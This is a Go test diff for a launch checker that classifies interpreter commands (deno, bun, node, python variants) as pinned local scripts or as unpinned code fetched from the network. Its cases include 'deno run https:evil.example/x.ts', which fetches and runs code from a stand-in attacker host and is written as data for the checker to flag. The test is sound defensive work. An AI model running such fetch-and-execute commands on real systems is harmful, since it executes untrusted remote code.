@@ -52,3 +52,35 @@ func TestScriptPathsPerProcessRefused(t *testing.T) {
 		{cmd: []string{"node", "x.js"}, script: "x.js"},
 	})
 }
+
+// Review cases: a scheme deno and bun fetch even when a file of that name
+// exists, bun's own commands, node's test runner, and interpreter names
+// the name rules missed.
+func TestLaunchReviewHoles(t *testing.T) {
+	fakeProgs(t, "node", "deno", "bun", "python3.13t", "python3-dbg")
+	work := t.TempDir()
+	for _, f := range []string{"x.js", "x.py", "x.ts", "npm:cowsay", "jsr:x", "test", "repl"} {
+		if err := os.WriteFile(filepath.Join(work, f), []byte("// "+f+"\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.MkdirAll(filepath.Join(work, "https:evil.example"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(work, "https:evil.example", "x.ts"), []byte("//\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	checkLaunchCases(t, work, []launchCase{
+		{cmd: []string{"deno", "run", "npm:cowsay"}, unpinned: "from the network"},
+		{cmd: []string{"deno", "run", "jsr:x"}, unpinned: "from the network"},
+		{cmd: []string{"deno", "run", "https:evil.example/x.ts"}, unpinned: "from the network"},
+		{cmd: []string{"bun", "npm:cowsay"}, unpinned: "from the network"},
+		{cmd: []string{"bun", "test"}, unpinned: "is a bun command"},
+		{cmd: []string{"bun", "repl"}, unpinned: "is a bun command"},
+		{cmd: []string{"node", "--test", "x.js", "other.js"}, unpinned: "--test"},
+		{cmd: []string{"python3.13t", "x.py"}, script: "x.py"},
+		{cmd: []string{"python3-dbg", "x.py"}, script: "x.py"},
+		{cmd: []string{"deno", "run", "x.ts"}, script: "x.ts"},
+		{cmd: []string{"bun", "x.ts"}, script: "x.ts"},
+	})
+}
